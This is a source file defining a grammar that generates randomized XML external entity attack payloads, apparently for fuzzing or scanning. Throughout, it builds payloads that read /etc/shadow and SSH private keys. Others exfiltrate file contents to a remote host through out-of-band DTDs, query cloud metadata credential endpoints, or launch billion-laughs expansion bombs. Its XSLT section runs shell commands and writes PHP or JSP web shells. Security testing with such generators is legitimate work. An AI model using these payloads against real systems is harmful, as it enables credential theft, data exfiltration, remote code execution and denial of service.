/**
 * XML external entities and their kin: parameter entities, remote DTDs, entity expansion, XInclude, XSLT, remote schemas.
 * A family binds the entity `e`, then `xx.shape` binds the root `r` and the document `body` which uses it.
 */
export const XXE = String.raw`
xx.path = /etc/passwd /etc/passwd /etc/shadow /etc/hosts /etc/hostname /etc/issue /etc/group /etc/fstab /proc/self/environ /proc/self/cmdline /proc/version /proc/net/arp /root/.ssh/id_rsa /root/.bash_history /flag /flag.txt /var/www/html/config.php /var/www/html/index.php /var/log/apache2/access.log /home/‹~3-7›/.ssh/id_rsa /home/‹~3-7›/‹~2-6›.txt /opt/‹~3-7›/conf/‹server.xml¦tomcat-users.xml¦web.xml› /app/‹~2-7›.‹py¦js¦yml¦env› /etc/nginx/nginx.conf /etc/‹~3-7›/‹~3-7›.conf / /etc/ /home/ /c:/windows/win.ini /c:/windows/win.ini /c:/boot.ini /c:/windows/system32/drivers/etc/hosts /c:/inetpub/wwwroot/web.config /d:/‹~3-7›/‹~3-7›.config /usr/local/‹~3-7›/conf/‹~3-6›.xml
xx.file: 7× file://‹xx.path›
  file:‹xx.path›
  file://localhost‹xx.path›
  file:/‹xx.path›
  FILE://‹xx.path›
  netdoc:‹xx.path›
  php://filter/‹read=¦›convert.base64-encode/resource=‹‹xx.path›¦index.php¦config.php¦../‹~3-6›.php¦http://‹addr›/›
  php://filter/‹zlib.deflate/¦string.rot13/›‹read=¦›convert.base64-encode/resource=‹xx.path›
  local_file:‹xx.path›
  ‹¦../../..¦../../../../..›‹xx.path›
  original-file://‹xx.path›
  \\‹ip›\‹~2-6›\‹~1-5›
xx.remote: 6× ‹scheme›://‹addr›/‹‹~1-8›¦‹*3-10›¦›
  ‹scheme›://‹addr›/‹~1-8›.‹dtd¦xml¦ent¦txt¦php¦mod›
  https://‹host›/‹~1-6›?‹~1-4›=‹rnd›
  ftp://‹addr›/‹~1-6›
  ftp://‹~2-5›:‹~2-5›@‹addr›/‹~1-5›
  jar:http://‹addr›/‹~1-6›.‹jar¦zip›!/‹~1-6›‹¦.txt›
  gopher://‹addr›/_‹‹~2-6›¦GET%20/%20HTTP/1.0%0d%0a›
  ldap://‹addr›/‹~1-5›
  dict://‹addr›/‹info¦stats¦‹~2-4››
  //‹addr›/‹~1-5›
xx.inner: http://169.254.169.254/‹latest/‹meta-data/‹¦iam/security-credentials/‹¦admin¦‹~3-7››¦hostname›¦user-data›¦metadata/v1/¦computeMetadata/v1/›
  http://‹127.0.0.1¦localhost¦[::1]¦0.0.0.0›:‹port›/‹¦admin¦‹~2-8›¦server-status›
  http://‹ip›:‹port›/‹~0-6›
  http://internal.‹~3-8›.local/‹~2-6›
  http://metadata.google.internal/computeMetadata/v1/instance/
xx.exec: expect://‹id¦whoami¦ls¦uname§IFS-a¦curl§IFS'‹addr›/‹~1-5›'¦cat§IFS/etc/passwd¦ping§IFS-c§IFS‹#1-5›§IFS‹host››
  data://text/plain;base64,‹b64!‹<!ENTITY % ‹~1-4› SYSTEM "file:///etc/passwd">¦‹word›››
  compress.zlib://‹xx.path›
  phar:///tmp/‹~2-7›.phar/‹~2-5›
  zip:///tmp/‹~2-7›.zip#‹~2-5›
  file:///dev/‹random¦urandom¦stdin¦zero¦tcp/‹ip›/‹port››
xx.uri: 6× ‹xx.file›
  4× ‹xx.remote›
  2× ‹xx.inner›
  ‹xx.exec›
xx.quoted: 4× "‹xx.uri›"
  '‹xx.uri›'
xx.quotedfile: 4× "‹xx.file›"
  '‹xx.file›'
xx.quotedremote: 4× "‹xx.remote›"
  '‹xx.remote›'
xx.ext: 8× SYSTEM ‹xx.quoted›
  PUBLIC "‹‹~1-6›¦-//‹^1-4›//‹^2-6›//EN¦any_text¦‹n››" ‹xx.quoted›
  SYSTEM‹⇥¦␠␠¦⏎¦⏎␠␠›‹xx.quoted›
xx.decl: 5× <?xml version="1.0" encoding="‹UTF-8¦utf-8¦ISO-8859-1›"?>‹=w›
  4× <?xml version="1.0"?>‹=w›
  <?xml version="1.0" encoding="‹UTF-16¦UTF-16LE¦utf-16be¦windows-1251¦UTF-32¦us-ascii›"?>‹=w›
  <?xml version='1.0' encoding='‹utf-8¦UTF-8›'‹ standalone='no'¦›?>‹=w›
  <?xml version="1.‹#0-1›" standalone="‹yes¦no›" ?>‹=w›
  <!--?xml version="1.0" ?-->‹=w›
  3× ∅
xx.nl: 3× ∅
  3× ⏎
  ␍⏎
  ␠
xx.name = xxe xxe foo file ent test payload remote data read ext a b x e sp ‹~1-7› ‹~1-7› ‹~2-4›‹#1-99› ‹^1-5› ‹^1›‹~1-6› payl‹~1-3› _‹~2-5› ‹~1-3›-‹~1-3›
xx.tag = root foo data test r doc request user userInfo order stockCheck login message contact item product feedback search document note reset ‹noun› ‹~1-8› ‹~1-8› ‹^1›‹~2-7› ‹noun›s creds comment invoice config xml methodcall
xx.sib: <‹=t:‹col››>‹word›</‹=t›>
  <‹=t:‹~2-8››>‹n›</‹=t›>
  <‹=t:‹noun››Id>‹n›</‹=t›Id>
xx.use: 6× &‹=e›;
  ‹word›&‹=e›;
  &‹=e›;&‹=e›;
  ‹~2-6›: &‹=e›; ‹~1-4›
xx.shape: 5× ‹:r:‹xx.tag››‹:body:<‹=r›>‹xx.use›</‹=r›>›
  5× ‹:r:‹xx.tag››‹:body:<‹=r›>‹=w›‹×0-3:‹xx.sib››<‹=t:‹col››>‹xx.use›</‹=t›>‹=w›‹×0-3:‹xx.sib››</‹=r›>›
  ‹:r:‹xx.tag››‹:body:<‹=r›><‹=u:‹xx.tag››>‹×0-2:‹xx.sib››<‹=t:‹~2-8››>‹xx.use›</‹=t›></‹=u›></‹=r›>›
  2× ‹:r:‹=p:‹soap¦soapenv¦SOAP-ENV¦s¦env››:Envelope›‹:body:<‹=p›:Envelope xmlns:‹=p›="http://‹schemas.xmlsoap.org/soap/envelope/¦www.w3.org/2003/05/soap-envelope›">‹<‹=p›:Header/>¦›<‹=p›:Body>‹=w›<‹=t:‹^1›‹~2-6›‹^1›‹~2-7›› xmlns="‹http://‹~3-7›.org/¦urn:‹~3-7››">‹×0-2:‹xx.sib››<‹=u:‹col››>‹xx.use›</‹=u›></‹=t›></‹=p›:Body></‹=p›:Envelope>›
  ‹:r:rss›‹:body:<rss version="2.0"‹ xmlns:atom="http://www.w3.org/2005/Atom"¦›><channel><title>‹xx.use›</title><link>http://‹~3-8›.com/</link><description>‹word›</description><item><title>‹‹xx.use›¦‹word››</title></item></channel></rss>›
  ‹:r:feed›‹:body:<feed xmlns="http://www.w3.org/2005/Atom"><title>‹word›</title><entry><title>‹xx.use›</title><id>urn:‹~2-6›:‹n›</id></entry></feed>›
  2× ‹:r:svg›‹:body:<svg ‹width="‹#1-900›" height="‹#1-900›" ¦›xmlns="http://www.w3.org/2000/svg"‹ xmlns:xlink="http://www.w3.org/1999/xlink"¦› version="1.1"><text ‹font-size="‹#8-40›" ¦›x="‹#0-99›" y="‹#0-99›">‹xx.use›</text></svg>›
  ‹:r:plist›‹:body:<plist version="1.0"><dict><key>‹^1›‹~2-9›</key><string>‹xx.use›</string></dict></plist>›
  ‹:r:urlset›‹:body:<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>‹xx.use›</loc></url></urlset>›
  ‹:r:samlp:‹=p:‹AuthnRequest¦Response¦LogoutRequest›››‹:body:<samlp:‹=p› xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_‹%16-32›" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">‹xx.use›</saml:Issuer></samlp:‹=p›>›
  ‹:r:methodCall›‹:body:<methodCall><methodName>‹‹~2-6›.‹~3-7›¦pingback.ping¦&‹=e›;›</methodName><params><param><value><string>‹xx.use›</string></value></param></params></methodCall>›
  ‹:r:kml›‹:body:<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>‹xx.use›</name></Placemark></kml>›
  ‹:r:gpx›‹:body:<gpx version="1.1"><wpt lat="‹#1-80›.‹n›" lon="‹#1-99›.‹n›"><name>‹xx.use›</name></wpt></gpx>›
  ‹:r:D:propfind›‹:body:<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>‹xx.use›</D:displayname></D:prop></D:propfind>›
  ‹:r:opml›‹:body:<opml version="2.0"><head><title>‹xx.use›</title></head><body><outline text="‹word›"/></body></opml>›
  ‹:r:html›‹:body:<html xmlns="http://www.w3.org/1999/xhtml"><head><title>‹word›</title></head><body><p>‹xx.use›</p></body></html>›
  ‹:r:‹xx.tag››‹:body:<‹=r› xmlns="‹urn:‹~3-8›¦http://‹~3-8›.‹~3-8›/ns›" id="‹n›"><‹=t:‹~2-8››><![CDATA[‹word›]]></‹=t›><‹=u:‹~2-8››>‹xx.use›</‹=u›></‹=r›>›
  ‹:r:project›‹:body:<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion><name>‹xx.use›</name></project>›
  ‹:r:score-partwise›‹:body:<score-partwise version="3.1"><work><work-title>‹xx.use›</work-title></work></score-partwise>›
  ‹:r:wfs:GetFeature›‹:body:<wfs:GetFeature service="WFS" xmlns:wfs="http://www.opengis.net/wfs"><wfs:Query typeName="‹xx.use›"/></wfs:GetFeature>›
  ‹:r:cas:serviceResponse›‹:body:<cas:serviceResponse xmlns:cas="http://www.yale.edu/tp/cas"><cas:user>‹xx.use›</cas:user></cas:serviceResponse>›
  ‹xx.office›
xx.office: ‹:r:‹sst¦worksheet››‹:body:<‹=r› xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><‹=t:‹si¦row››><t>‹xx.use›</t></‹=t›></‹=r›>›
  ‹:r:w:document›‹:body:<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>‹xx.use›</w:t></w:r></w:p></w:body></w:document>›
  ‹:r:Types›‹:body:<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>‹xx.use›</Types>›
  ‹:r:cp:coreProperties›‹:body:<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>‹xx.use›</dc:title></cp:coreProperties>›
  ‹:r:Relationships›‹:body:<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId‹#1-9›" Target="‹~3-7›.xml"/>‹xx.use›</Relationships>›
  ‹:r:office:document-content›‹:body:<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body>‹xx.use›</office:body></office:document-content>›
  ‹:r:package›‹:body:<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata>‹xx.use›</metadata></package>›
  ‹:r:workbook›‹:body:<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="‹xx.use›" sheetId="1"/></sheets></workbook>›

xx.doc: 8× ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [‹=w›‹<!ELEMENT ‹=r› ANY>‹=w›¦¦¦›<!ENTITY ‹=e› ‹xx.ext›>‹=w›]>‹=w›‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹‹~3-7›¦replace¦ANY¦test› [‹=w›<!ENTITY ‹=e› ‹xx.ext›>‹=w›]>‹=w›‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r›[‹<!ELEMENT ‹=r› (#PCDATA)>¦›‹<!ENTITY ‹~1-5› "‹word›">¦›<!ENTITY ‹=e› ‹xx.ext›>]>‹=body›
xxe/entity [body-xml,body-xml,value,file] 8: 6× ‹xx.doc›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [‹×2-4:<!ENTITY ‹~1-6› SYSTEM ‹xx.quoted›>›<!ENTITY ‹=e› ‹xx.ext›>]>‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [<!ENTITY ‹=e› SYSTEM ‹xx.quoted› NDATA ‹~2-4›>]>‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [<!-- ‹~2-9› --><!ENTITY⇥‹=e›⏎SYSTEM⏎‹xx.quoted›⏎>]>‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [<!NOTATION ‹~2-4› SYSTEM "‹~2-5›"><!ATTLIST ‹=r› ‹~1-4› CDATA #IMPLIED><!ENTITY ‹=e› ‹xx.ext›>]>‹=body›
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=e:‹xx.name›› ‹xx.ext›>‹=w›]>‹=w›<‹=r› ‹~1-6›="&‹=e›;"‹/>¦></‹=r›>›
xxe/office [file,body-xml] 1: ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.office›<?xml version="1.0" encoding="UTF-8" standalone="yes"?>‹=w›<!DOCTYPE ‹=r› [<!ENTITY ‹=e› ‹xx.ext›>]>‹=w›‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.office›<?xml version="1.0" encoding="UTF-8" standalone="yes"?>‹=w›<!DOCTYPE ‹=r› [<!ENTITY % ‹=q:‹~1-6›› SYSTEM ‹xx.quotedremote›> %‹=q›;‹¦‹ ¦›%‹~1-6›;›]>‹=w›‹=body›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.office›<?xml version="1.0" encoding="UTF-8"?>‹=w›<!DOCTYPE ‹=r› SYSTEM ‹xx.quotedremote›>‹=body›
xx.param = ‹~1-7› xxe remote dtd sp ext asd load ‹^1-6› p‹#1-9› ‹~1-3›_‹~1-4›
xxe/parameter [body-xml,body-xml,value] 5: ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [‹=w›<!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quotedremote›>‹=w›‹ ¦›%‹=q›;‹=w›]>‹=w›‹=body›
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=q:‹xx.param›› ‹SYSTEM¦PUBLIC "‹~1-4›"› ‹xx.quotedremote›>‹=w›%‹=q›;‹=w›]>‹=w›‹<‹=r›/>¦<‹=r›></‹=r›>¦<‹=r›>‹word›</‹=r›>¦›
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=d:‹xx.param›› SYSTEM ‹xx.quotedremote›>‹=w›%‹=d›;‹=w›%‹~1-6›;‹=w›]>‹=w›<‹=r›>‹¦&‹~1-6›;›</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY % ‹=q:‹xx.param›› "<!ENTITY ‹=e:‹xx.name›› SYSTEM '‹xx.uri›'>">%‹=q›;]><‹=r›>&‹=e›;</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY % ‹=q:‹xx.param›› '‹entityHex!<!ENTITY % ‹=d:‹xx.param›› SYSTEM "‹xx.remote›">›'>%‹=q›;%‹=d›;]><‹=r›/>
xxe/oob [body-xml,body-xml,value] 5: ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=f:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=d:‹xx.param›› SYSTEM ‹xx.quotedremote›>‹=w›%‹=d›;‹¦‹=w›%‹~1-6›;›]>‹=w›<‹=r›>&‹=s:‹xx.name››;</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›‹xx.leak›‹=w›]>‹=w›<‹=r›‹/>¦>‹word›</‹=r›>›
  ‹:w:‹xx.nl››‹xx.leak›
  ‹:w:‹xx.nl››‹xx.decl›‹xx.leak›
xx.leak: 3× <!ENTITY % ‹=f:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=v:‹xx.param›› "<!ENTITY &#x25; ‹=s:‹xx.param›› SYSTEM '‹‹scheme›://‹addr›/‹?‹~1-4›=¦‹~1-5›/¦›¦ftp://‹addr›/›%‹=f›;'>">‹=w›%‹=v›;‹=w›%‹=s›;
  <!ENTITY % ‹=f:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=v:‹xx.param›› "<!ENTITY &#‹37¦x25›; ‹=s:‹xx.param›› SYSTEM 'file:///‹~3-11›/%‹=f›;'>">‹=w›%‹=v›;‹=w›%‹=s›;
  <!ENTITY % ‹=f:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=v:‹xx.param›› "<!ENTITY ‹=s:‹xx.name›› SYSTEM 'http://‹addr›/?‹~1-3›=%‹=f›;'>">‹=w›%‹=v›;
xxe/error [body-xml,value] 2: ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=l:‹~2-9›› SYSTEM "file:///‹usr/share/‹yelp/dtd/docbookx.dtd¦xml/‹~3-9›/‹~3-8›.dtd¦‹~3-8›/‹~3-8›.dtd›¦‹opt¦var¦etc›/‹~3-8›/‹~3-8›.dtd¦C:/Windows/System32/‹~3-7›/‹~3-7›.dtd›">‹=w›<!ENTITY % ‹ISO‹~3-5›¦‹~3-8›¦‹^1›‹~3-8›› '‹=w›<!ENTITY &#x25; ‹=f:‹xx.param›› SYSTEM "‹xx.file›">‹=w›<!ENTITY &#x25; ‹=v:‹xx.param›› "<!ENTITY &#x26;#x25; ‹=s:‹xx.param›› SYSTEM &#x27;‹file:///‹~3-9›/¦http://‹addr›/?›&#x25;‹=f›;&#x27;>">‹=w›&#x25;‹=v›;‹=w›&#x25;‹=s›;‹=w›'>‹=w›%‹=l›;‹=w›]>‹=w›<‹=r›‹/>¦>‹word›</‹=r›>›
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=a:‹xx.param›› "<![CDATA[">‹=w›<!ENTITY % ‹=f:‹xx.param›› SYSTEM ‹xx.quotedfile›>‹=w›<!ENTITY % ‹=z:‹xx.param›› "]]>">‹=w›<!ENTITY % ‹=d:‹xx.param›› SYSTEM ‹xx.quotedremote›>‹=w›%‹=d›;‹=w›]>‹=w›<‹=r›>&‹=s:‹xx.name››;</‹=r›>
  <!ENTITY ‹=s:‹xx.name›› "%‹=a:‹xx.param››;%‹=f:‹xx.param››;%‹=z:‹xx.param››;">⏎<!ENTITY % ‹=f› SYSTEM ‹xx.quotedfile›>
xxe/doctype [body-xml,value,file] 3: ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› ‹SYSTEM¦PUBLIC "‹~1-6›"¦PUBLIC "-//‹^1-4›//‹~2-6›//EN"› ‹xx.quotedremote›>‹=w›<‹=r›‹/>¦>‹word›</‹=r›>¦>‹×1-3:‹xx.sib››</‹=r›>›
  ‹:w:‹xx.nl››‹:e:‹xx.name››‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› SYSTEM ‹"‹xx.remote›"¦"‹xx.file›"¦'‹xx.remote›'¦"‹xx.inner›"›>‹=w›‹=body›
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› SYSTEM "‹xx.file›" [<!ENTITY ‹~1-5› SYSTEM ‹xx.quotedremote›>]><‹=r›/>
xx.l0: <!ENTITY ‹=p› "‹lol¦ha¦‹~1-10›¦‹*20-60››">‹=w›
xx.l1: <!ENTITY ‹=p›1 "‹×4-12:&‹=p›;›">‹=w›
xx.l2: <!ENTITY ‹=p›2 "‹×4-12:&‹=p›1;›">‹=w›
xx.l3: <!ENTITY ‹=p›3 "‹×4-12:&‹=p›2;›">‹=w›
xx.l4: <!ENTITY ‹=p›4 "‹×4-12:&‹=p›3;›">‹=w›
xx.l5: <!ENTITY ‹=p›5 "‹×4-12:&‹=p›4;›">‹=w›
xx.l6: <!ENTITY ‹=p›6 "‹×4-12:&‹=p›5;›">‹=w›
xx.l7: <!ENTITY ‹=p›7 "‹×4-12:&‹=p›6;›">‹=w›
xx.l8: <!ENTITY ‹=p›8 "‹×4-12:&‹=p›7;›">‹=w›
xx.laughs: ‹:e:‹=p›4›‹:lines:‹xx.l0›‹xx.l1›‹xx.l2›‹xx.l3›‹xx.l4››
  ‹:e:‹=p›5›‹:lines:‹xx.l0›‹xx.l1›‹xx.l2›‹xx.l3›‹xx.l4›‹xx.l5››
  ‹:e:‹=p›6›‹:lines:‹xx.l0›‹xx.l1›‹xx.l2›‹xx.l3›‹xx.l4›‹xx.l5›‹xx.l6››
  ‹:e:‹=p›8›‹:lines:‹xx.l0›‹xx.l1›‹xx.l2›‹xx.l3›‹xx.l4›‹xx.l5›‹xx.l6›‹xx.l7›‹xx.l8››
xxe/laughs [body-xml,body-xml,value,file] 3: 4× ‹:w:‹xx.nl››‹:p:‹lol¦a¦x¦ha¦‹~1-6›››‹xx.laughs›‹xx.shape›‹xx.decl›<!DOCTYPE ‹=r› [‹=w›‹<!ELEMENT ‹=r› (#PCDATA)>¦¦›‹=lines›]>‹=w›‹=body›
  2× ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=a:‹~1-4›› "‹*200-900›">]>‹=w›<‹=r›>‹×60-200:&‹=a›;›</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=a:‹~1-4›a› "&‹=b:‹~1-4›b›;"><!ENTITY ‹=b› "&‹=a›;">]>‹=w›<‹=r›>&‹=a›;</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [<!ENTITY ‹=a:‹~1-5›› "‹×2-30:&‹=a›;›">]>‹=w›<‹=r›>&‹=a›;</‹=r›>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹=w›<!ENTITY % ‹=a:‹~1-3›0› "‹×20-80:‹~1››">‹=w›<!ENTITY % ‹=b:‹~1-3›1› "‹×5-20:%‹=a›;›">‹=w›<!ENTITY % ‹=c:‹~1-3›2› "‹×5-20:%‹=b›;›">‹=w›<!ENTITY ‹=e:‹~1-3›3› "‹×5-20:%‹=c›;›">‹=w›]><‹=r›>&‹=e›;</‹=r›>
  ‹:w:‹xx.nl››‹:p:‹~1-5››‹xx.decl›<!DOCTYPE ‹=r:‹xx.tag›› [‹xx.l0›‹xx.l1›‹xx.l2›‹xx.l3›‹xx.l4›]><‹=r› ‹~1-5›="&‹=p›4;"/>

xx.xi: <‹=x›:include ‹parse="text" href=‹xx.quoted›¦href=‹xx.quoted› parse="text"¦href=‹xx.quoted›¦href=‹xx.quoted› parse="xml"›‹/>¦></‹=x›:include>¦><‹=x›:fallback>‹word›</‹=x›:fallback></‹=x›:include>›
xxe/xinclude 3: ‹:x:‹xi¦xi¦xinclude¦‹~1-4›››<‹=r:‹xx.tag›› xmlns:‹=x›="http://www.w3.org/2001/XInclude"‹¦ ›>‹¦‹xx.sib››‹xx.xi›</‹=r›>
  ‹:x:‹xi¦‹~1-4›››<‹=x›:include xmlns:‹=x›="http://www.w3.org/2001/XInclude" href=‹xx.quoted›‹ parse="text"¦›‹/>¦></‹=x›:include>›
  <include xmlns="http://www.w3.org/2001/XInclude" href=‹xx.quoted›‹ parse="text"¦›/>
  ‹:x:‹xi¦‹~1-4›››‹word›<‹~2-5› xmlns:‹=x›="http://www.w3.org/2001/XInclude">‹xx.xi›</‹~2-5›>
xxe/xinclude-body [body-xml,file] 2: ‹:w:‹xx.nl››‹:x:‹xi¦‹~1-4›››‹xx.decl›<‹=r:‹xx.tag›› xmlns:‹=x›="http://www.w3.org/2001/XInclude">‹=w›‹×0-3:‹xx.sib››‹xx.xi›‹=w›‹×0-2:‹xx.sib››</‹=r›>
  ‹:x:xi›<‹=p:‹soap¦soapenv››:Envelope xmlns:‹=p›="http://schemas.xmlsoap.org/soap/envelope/"><‹=p›:Body><‹=t:‹~3-8›› xmlns:xi="http://www.w3.org/2001/XInclude">‹xx.xi›</‹=t›></‹=p›:Body></‹=p›:Envelope>
xxe/svg [file,body-xml,value] 4: ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE svg [<!ENTITY ‹=e:‹xx.name›› ‹xx.ext›>]>‹=w›<svg width="‹#1-900›‹px¦›" height="‹#1-900›‹px¦›" xmlns="http://www.w3.org/2000/svg"><text x="‹#0-99›" y="‹#0-99›">&‹=e›;</text></svg>
  ‹:w:‹xx.nl››‹xx.decl›<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="‹#10-900›" height="‹#10-900›"><image xlink:href="‹‹xx.file›¦‹xx.exec›¦‹xx.inner›¦text:/etc/passwd¦msl:/tmp/‹~2-6›.‹svg¦msl›¦ephemeral:/tmp/‹~2-6››" x="0" y="0" height="‹#10-900›"‹/>¦></image>›</svg>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><rect width="‹#1-99›" height="‹#1-99›"/>‹:x:xi›‹xx.xi›</svg>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE svg SYSTEM ‹xx.quotedremote›><svg xmlns="http://www.w3.org/2000/svg"><circle r="‹#1-99›"/></svg>
  ‹:w:‹xx.nl››‹xx.decl›<!DOCTYPE svg [<!ENTITY % ‹=q:‹xx.param›› SYSTEM ‹xx.quotedremote›>%‹=q›;‹%‹~1-5›;¦›]><svg xmlns="http://www.w3.org/2000/svg"><text>‹&‹~1-6›;¦‹word››</text></svg>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="‹xx.file›#‹~1-4›"/></svg>
xxe/schema [body-xml,value] 2: ‹:w:‹xx.nl››‹xx.decl›<‹=r:‹xx.tag›› xmlns‹¦:‹~1-3››="‹urn:‹~2-6›¦http://‹~3-7›.‹~3-7››" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="‹urn:‹~2-6›¦http://‹~3-7›.‹~3-7›› ‹http://‹ip›:‹port›/‹~1-5›.xsd¦http://‹ip›/‹~1-5›¦‹xx.file›¦‹xx.inner›¦ftp://‹addr›/‹~1-4››">‹word›</‹=r›>
  <‹=r:‹xx.tag›› xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="‹http://‹ip›‹:‹port›¦›/‹~1-6›.xsd¦‹xx.inner›¦‹xx.file››"‹/>¦></‹=r›>›
  <?xml version="1.0"?>‹=w:‹xx.nl››<?xml-stylesheet type="text/‹xsl¦xml¦css›" href="‹http://‹ip›:‹port›/‹~1-6›.xsl¦‹xx.file›¦‹xx.inner››"?>‹=w›<‹=r:‹xx.tag››/>
  <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:‹include¦import¦redefine› ‹namespace="‹~2-6›" ¦›schemaLocation="‹‹xx.inner›¦http://‹ip›:‹port›/‹~1-6›¦‹xx.file››"/></xs:schema>
  <‹=p:‹wsdl¦w››:definitions xmlns:‹=p›="http://schemas.xmlsoap.org/wsdl/"><‹=p›:import namespace="‹~2-6›" location="‹‹xx.inner›¦‹xx.file›¦http://‹ip›:‹port›/›"/></‹=p›:definitions>
xx.xsl: <xsl:copy-of select="document('‹xx.uri›')"/>
  <xsl:value-of select="document('‹xx.uri›')"/>
  <xsl:value-of select="‹unparsed-text¦fn:unparsed-text›('‹xx.file›'‹,'utf-8'¦›)"/>
  <xsl:value-of select="php:function('‹system','‹id¦whoami¦ls -la›¦passthru','id¦file_get_contents','‹xx.path›¦scandir','.¦readfile','index.php¦assert','phpinfo()›')"/>
  <xsl:variable name="‹=v:‹~1-5››" select="rt:getRuntime()"/><xsl:variable name="‹=u:‹~1-5››" select="rt:exec(§‹=v›,'‹id¦whoami¦ping -c ‹#1-9› ‹addr›¦calc.exe¦curl ‹addr››')"/><xsl:value-of select="ob:toString(§‹=u›)"/>
  <xsl:include href="‹xx.uri›"/>
  <xsl:import href="‹xx.uri›"/>
  <exsl:document href="‹/var/www/html/‹~2-6›.php¦/tmp/‹~2-6›.txt¦file:///tmp/‹~2-6››" method="text">‹<?php system(§_GET[‹~1›]);?>¦‹word››</exsl:document>
  <xsl:value-of select="user:‹=v:‹~2-5››()"/><msxsl:script language="‹C#¦JScript¦VBScript›" implements-prefix="user"><![CDATA[public string ‹=v›(){System.Diagnostics.Process.Start("‹cmd.exe¦calc.exe¦powershell.exe›");return "";}]]></msxsl:script>
  <xsl:value-of select="java:java.lang.Runtime.exec(java:java.lang.Runtime.getRuntime(),'‹id¦touch /tmp/‹~2-6›¦curl ‹addr››')"/>
  <xsl:value-of select="‹saxon¦dyn›:evaluate('‹~2-6›')"/><xsl:copy-of select="collection('file:///‹etc¦home¦›')"/>
  <redirect:open file="/var/www/‹~2-6›.jsp"/><redirect:write file="/var/www/‹~2-6›.jsp">‹<% Runtime.getRuntime().exec("id"); %>¦‹word››</redirect:write>
